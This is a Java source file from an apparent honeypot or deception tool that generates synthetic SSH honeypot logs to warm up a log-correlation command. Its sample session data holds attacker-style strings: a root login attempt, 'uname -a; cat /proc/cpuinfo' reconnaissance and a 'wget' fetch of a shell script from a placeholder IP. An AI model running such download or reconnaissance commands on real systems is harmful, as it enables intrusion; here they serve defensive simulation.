package decnet.cli;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

/**
 * A log long enough for the JVM to learn, while it prepares the fast start, what is worth compiling
 * in {@code correlate}: the lines of a real fleet, then sessions at its deckies.
 */
final class TrainingLog {
  private static final int SESSIONS = 40_000; // five lines each: a second of work
  private static final int SOURCES = 20_000;
  private static final List<String> TYPES =
      List.of("connect", "auth.attempt", "command", "command", "disconnect");
  private static final List<String> DETAILS =
      List.of(
          "",
          " username=\"root\" password=\"1\\\\23\" outcome=\"failure\"",
          " command=\"uname -a; cat /proc/cpuinfo\" user=\"root\"",
          " command=\"wget http://192.0.2.1/a.sh\" user=\"root\"",
          " reason=\"done\" duration_ms=\"1200\"");

  private TrainingLog() {}

  /**
   * Writes it to {@code to}: the lines of {@code fleet}, a log, then sessions at {@code deckies}.
   */
  static void write(Path to, Path fleet, List<String> deckies) throws IOException {
    Instant at = Instant.now();
    try (BufferedWriter out = Files.newBufferedWriter(to, StandardCharsets.UTF_8)) {
      for (String line : Files.readAllLines(fleet, StandardCharsets.UTF_8)) {
        out.write(line);
        out.newLine();
      }
      for (int session = 0; session < SESSIONS; session++) {
        int source = session * 7 % SOURCES;
        String decky = deckies.get(session % deckies.size());
        for (int step = 0; step < TYPES.size(); step++) {
          at = at.plusMillis(20);
          out.write(
              "<134>1 %s %s ssh - %s [relay@55555 src_ip=\"198.18.%d.%d\" src_port=\"%d\" dst_ip=\"10.66.0.9\" dst_port=\"22\" session=\"%032x\"%s]"
                  .formatted(
                      at,
                      decky,
                      TYPES.get(step),
                      source >> 8,
                      source & 255,
                      32_768 + session % 28_000,
                      session,
                      DETAILS.get(step)));
          out.newLine();
        }
      }
    }
  }
}
